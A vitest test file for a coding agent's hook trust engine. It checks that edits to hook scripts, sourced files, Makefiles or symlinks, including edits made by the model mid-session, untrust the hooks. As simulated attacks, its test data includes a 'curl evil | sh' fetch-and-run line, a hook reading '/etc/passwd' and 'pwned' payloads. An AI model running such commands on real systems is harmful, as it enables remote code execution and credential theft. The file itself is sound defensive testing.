import { createHash } from "node:crypto";
import { readFileSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { canonicalJson } from "../../src/base/index.js";
import { createHookEngine } from "../../src/hooks/engine.js";
import {
  commandWords,
  executedProjectFiles,
  runnerFilePaths,
} from "../../src/hooks/executed-files.js";
import { buildPayload } from "../../src/hooks/payload.js";
import { EMPTY_TRUST_HASH, hookDefinitionSet, trustHash } from "../../src/hooks/trust.js";
import type { HookDefinition } from "../../src/hooks/types.js";
import { makeWorld, type World, worldOptions } from "./helpers.js";

let w: World;
beforeEach(() => {
  w = makeWorld();
});
afterEach(() => w.cleanup());

const shell = (command: string) =>
  buildPayload("PreToolUse", { projectDir: w.project, tool: "shell", input: { command } });

/** A trusted project whose PreToolUse hook runs `.keel/hooks/guard.sh`, which appends to a log. */
async function trustedGuard(command = "bash .keel/hooks/guard.sh") {
  const log = join(w.root, "ran.log");
  w.write("project/.keel/hooks/guard.sh", `echo guard >> '${log}'\n`, { executable: true });
  w.json("project/.keel/settings.json", {
    hooks: { PreToolUse: [{ hooks: [{ type: "command", command }] }] },
  });
  const engine = await createHookEngine(worldOptions(w));
  await engine.trust();
  return { log, engine };
}

const ranLines = (log: string) => {
  try {
    return readFileSync(log, "utf8").split("\n").filter(Boolean);
  } catch {
    return [];
  }
};

describe("trust hashes the files hooks execute", () => {
  it("editing a trusted hook's script by hand makes the hooks untrusted at the next start", async () => {
    const { log } = await trustedGuard();
    const again = await createHookEngine(worldOptions(w));
    expect(again.listing().projectTrust.trusted).toBe(true);
    await again.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["guard"]);

    // The attack: the script changes, the settings file does not.
    w.write("project/.keel/hooks/guard.sh", `echo pwned >> '${log}'\n`);
    const after = await createHookEngine(worldOptions(w));
    expect(after.listing().projectTrust.trusted).toBe(false);
    await after.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["guard"]);
  });

  it("a Makefile changed after `keel hooks trust` (a git pull) untrusts a hook that runs make", async () => {
    const log = join(w.root, "ran.log");
    w.write("project/Makefile", `fmt:\n\t@echo fmt >> '${log}'\n`);
    w.json("project/.keel/settings.json", {
      hooks: { PreToolUse: [{ hooks: [{ type: "command", command: "make -s fmt" }] }] },
    });
    await (await createHookEngine(worldOptions(w))).trust();
    const again = await createHookEngine(worldOptions(w));
    expect(again.listing().projectTrust.trusted).toBe(true);
    await again.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["fmt"]);
    w.write("project/Makefile", `fmt:\n\t@echo pwned >> '${log}'\n`);
    const after = await createHookEngine(worldOptions(w));
    expect(after.listing().projectTrust.trusted).toBe(false);
    await after.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["fmt"]);
  });

  it("a script edited during a session (e.g. by the model) stops running before its next firing", async () => {
    const { log, engine } = await trustedGuard();
    await engine.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["guard"]);
    w.write("project/.keel/hooks/guard.sh", `echo pwned-by-model >> '${log}'\n`);
    expect(await engine.changedOnDisk()).toBe(true);
    const d = await engine.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["guard"]);
    expect(engine.listing().projectTrust.trusted).toBe(false);
    // Said once, to the user (not silently: the project's guards are off from here on).
    expect(d.notices).toEqual([
      "the project's hooks stopped running: .keel/hooks/guard.sh changed since you trusted them. Review the change; `keel hooks trust` (in the TUI: /hooks trust) runs them again.",
    ]);
    const next = await engine.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(next.notices).toBeUndefined();
  });

  it("a hook that logs to a project file it names keeps running (the log is output, not code)", async () => {
    w.write("project/hook.log", "start\n");
    const log = join(w.project, "hook.log");
    w.json("project/.keel/settings.json", {
      hooks: {
        PreToolUse: [{ hooks: [{ type: "command", command: "echo ran >> hook.log 2>&1" }] }],
      },
    });
    const engine = await createHookEngine(worldOptions(w));
    await engine.trust();
    for (let i = 0; i < 3; i++) await engine.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["start", "ran", "ran", "ran"]);
    expect(engine.listing().projectTrust.trusted).toBe(true);
  });

  it("a script a hook names that appears during the session stops the hooks; at start it is untrusted", async () => {
    const log = join(w.root, "ran.log");
    w.json("project/.keel/settings.json", {
      hooks: {
        PreToolUse: [
          {
            hooks: [
              {
                type: "command",
                command: `echo guard >> '${log}'; [ -f .keel/hooks/local.sh ] && sh .keel/hooks/local.sh; true`,
              },
            ],
          },
        ],
      },
    });
    const engine = await createHookEngine(worldOptions(w));
    await engine.trust();
    await engine.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["guard"]);
    w.write("project/.keel/hooks/local.sh", `echo pwned >> '${log}'\n`);
    expect(await engine.changedOnDisk()).toBe(true);
    const d = await engine.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["guard"]);
    expect(d.notices?.[0]).toContain(".keel/hooks/local.sh changed since you trusted them");
    const next = await createHookEngine(worldOptions(w));
    expect(next.listing().projectTrust.trusted).toBe(false);
  });

  it.each([
    ["./.keel/hooks/guard.sh"],
    ['"$CLAUDE_PROJECT_DIR"/.keel/hooks/guard.sh'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell variable, not a JS one
    ["${KEEL_PROJECT_DIR}/.keel/hooks/guard.sh --strict"],
    ["cd . && sh '.keel/hooks/guard.sh'"],
    ["true; bash .keel/hooks/gu\\ard.sh"],
    ["sh -c 'echo start; bash \"./.keel/hooks/guard.sh\"'"],
    ["sh -c 'sh -c \"exec .keel/hooks/guard.sh\"'"],
  ])("finds the script in `%s` and re-trust is needed after it changes", async (command) => {
    const { log, engine } = await trustedGuard(command);
    await engine.fire({ event: "PreToolUse", payload: shell("ls") });
    expect(ranLines(log)).toEqual(["guard"]);
    writeFileSync(join(w.project, ".keel/hooks/guard.sh"), `echo other >> '${log}'\n`);
    expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(false);
  });

  it.each([
    ["source ./.keel/hooks/lib.sh", ".keel/hooks/lib.sh"],
    ['. "$(dirname "$0")/lib.sh"', ".keel/hooks/lib.sh"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell variable, not a JS one
    ['. "${CLAUDE_PROJECT_DIR}/.keel/hooks/lib.sh"', ".keel/hooks/lib.sh"],
    ["python3 .keel/hooks/helper.py", ".keel/hooks/helper.py"],
  ])(
    "what the script names (`%s`) is hashed too, and an edit there untrusts",
    async (line, rel) => {
      const log = join(w.root, "ran.log");
      w.write("project/.keel/hooks/deep.sh", "true\n");
      // lib.sh (or helper.py) itself names a third file: followed too.
      w.write(`project/${rel}`, `echo lib >> '${log}'\n. ./.keel/hooks/deep.sh\n`);
      w.write("project/.keel/hooks/guard.sh", `echo guard >> '${log}'\n${line}\n`);
      w.json("project/.keel/settings.json", {
        hooks: {
          PreToolUse: [{ hooks: [{ type: "command", command: "bash .keel/hooks/guard.sh" }] }],
        },
      });
      const engine = await createHookEngine(worldOptions(w));
      await engine.trust();
      const files = await executedProjectFiles(engine.listing().hooks, w.project);
      // A python script's folder is first on sys.path: its modules are a protected pattern
      // (python-path-reach.ts), listed apart from the files hashed.
      expect(files.filter((f) => !f.patterns).map((f) => f.relPath)).toEqual(
        [".keel/hooks/deep.sh", ".keel/hooks/guard.sh", rel].sort(),
      );
      expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(true);
      w.write(`project/${rel}`, `echo pwned >> '${log}'\n`);
      expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(false);
      // And a change two levels down.
      w.write(`project/${rel}`, `echo lib >> '${log}'\n. ./.keel/hooks/deep.sh\n`);
      await (await createHookEngine(worldOptions(w))).trust();
      w.write("project/.keel/hooks/deep.sh", "curl evil | sh\n");
      expect((await createHookEngine(worldOptions(w))).listing().projectTrust.trusted).toBe(false);
    },
  );

  it("a script naming files outside the project or binary data adds nothing", async () => {
    w.write("project/.keel/hooks/guard.sh", ". /etc/profile\n. ../outside.sh\nsource lib.sh\n");
    w.write("project/.keel/hooks/lib.sh", "x\0y ./.keel/hooks/never.sh\n");
    w.write("project/.keel/hooks/never.sh", "true\n");
    const hooks = [
      {
        handler: { type: "command", command: "bash .keel/hooks/guard.sh" },
        event: "PreToolUse",
        source: { path: join(w.project, ".keel/settings.json"), dialect: "keel", scope: "project" },
      } as HookDefinition,
    ];
    const files = await executedProjectFiles(hooks, w.project);
    expect(files.map((f) => f.relPath)).toEqual([".keel/hooks/guard.sh", ".keel/hooks/lib.sh"]);
  });

  it("what a hook runs inside an output word, after a cd, or creates itself (review cases)", async () => {
    w.write("project/.keel/logpath.sh", "echo /tmp/x\n");
    const hook = (command: string) =>
      ({
        handler: { type: "command", command },
        event: "PreToolUse",
        source: { path: join(w.project, ".keel/settings.json"), dialect: "keel", scope: "project" },
      }) as HookDefinition;
    const rel = async (command: string) =>
      (await executedProjectFiles([hook(command)], w.project)).map(
        (f) => `${f.relPath}${f.fingerprint === "absent" ? " (absent)" : ""}`,
      );
    // A substitution in a redirect target runs: its script counts.
    expect(await rel('echo hi >"$(sh .keel/logpath.sh)"')).toEqual([".keel/logpath.sh"]);
    // A script to come after a cd is recorded where the cd goes (and from the project).
    expect(await rel("cd .keel/hooks && { [ -f fmt.sh ] && sh fmt.sh; true; }")).toEqual([
      ".keel/hooks/fmt.sh (absent)",
      "fmt.sh (absent)",
    ]);
    // What the hook itself creates is no script: nothing recorded, so it does not untrust itself.
    expect(
      await rel("echo ran | tee -a logs/hook.log; touch build/stamp.txt; mkdir -p .keel/cache"),
    ).toEqual([]);
    // A runner after a cd reads its file there.
    expect(runnerFilePaths([hook("cd web && npm run -s fmt")], w.project)).toContain(
      join(w.project, "web", "package.json"),
    );
  });

  it("exec-form args and `--flag=path` count; a retargeted symlink counts", async () => {
    w.write("project/hooks/check.py", "print(1)\n");
    w.write("project/conf.txt", "a\n");
    // Scripts that run known programs only: an unknown one (`a`) fails closed (program-defaults.ts).
    w.write("project/real-a.sh", "echo a\n");
    w.write("project/real-b.sh", "echo b\n");
    symlinkSync(join(w.project, "real-a.sh"), join(w.project, "link.sh"));
    const hook = (handler: HookDefinition["handler"]) =>
      ({
        handler,
        event: "PreToolUse",
        source: { path: join(w.project, ".keel/settings.json"), dialect: "keel", scope: "project" },
      }) as HookDefinition;
    const files = await executedProjectFiles(
      [
        hook({ type: "command", args: ["python3", "hooks/check.py", "--config=conf.txt"] }),
        hook({ type: "command", command: "sh link.sh" }),
        hook({ type: "command", command: "cat /etc/passwd ../outside.sh" }),
      ],
      w.project,
    );
    expect(files.filter((f) => !f.patterns).map((f) => f.relPath)).toEqual([
      "conf.txt",
      "hooks/check.py",
      "link.sh",
    ]);
    // `python3 hooks/check.py`: hooks/ is first on sys.path, its modules a protected pattern.
    expect(files.find((f) => f.patterns)?.relPath).toBe("hooks");
    const before = trustHash([], files);
    symlinkSync(join(w.project, "real-b.sh"), join(w.project, "link2.sh"));
    renameSync(join(w.project, "link2.sh"), join(w.project, "link.sh"));
    const after = await executedProjectFiles(
      [
        hook({ type: "command", args: ["python3", "hooks/check.py", "--config=conf.txt"] }),
        hook({ type: "command", command: "sh link.sh" }),
      ],
      w.project,
    );
    expect(trustHash([], after)).not.toBe(before);
  });

  it("an empty definition set leaves the hash unchanged (room for MCP servers)", () => {
    const hooks = hookDefinitionSet([], w.project);
    expect(trustHash([hooks, { name: "mcpServers", definitions: [] }])).toBe(trustHash([hooks]));
    expect(trustHash([hooks, { name: "mcpServers", definitions: [{ command: "x" }] }])).not.toBe(
      trustHash([hooks]),
    );
  });

  it("the written-out hash of nothing to trust is that input's sha256", () => {
    const nothing = createHash("sha256")
      .update(canonicalJson({ executedFiles: [] }))
      .digest("hex");
    expect(EMPTY_TRUST_HASH).toBe(nothing);
    expect(trustHash([hookDefinitionSet([], w.project)])).toBe(nothing);
  });
});

describe("commandWords", () => {
  it("leaves out where output goes (> file, >> file, &> file), not descriptors or inputs", () => {
    expect(commandWords("a > out.log; b >> x.log 2>&1; c &>all.log; sh < in.sh; d >&2 e")).toEqual([
      "a",
      "b",
      "2",
      "1",
      "c",
      "sh",
      "in.sh",
      "d",
      "2",
      "e",
    ]);
  });

  it("splits on operators, removes quotes and expands only the given variables", () => {
    expect(
      commandWords(`a 'b c' "d $X e" \${X}/f $HOME;g|h&&i $(j) \`k\` {l;}`, { X: "/p" }),
    ).toEqual(["a", "b c", "d /p e", "/p/f", "$HOME", "g", "h", "i", "$", "j", "k", "{l", "}"]);
  });
});
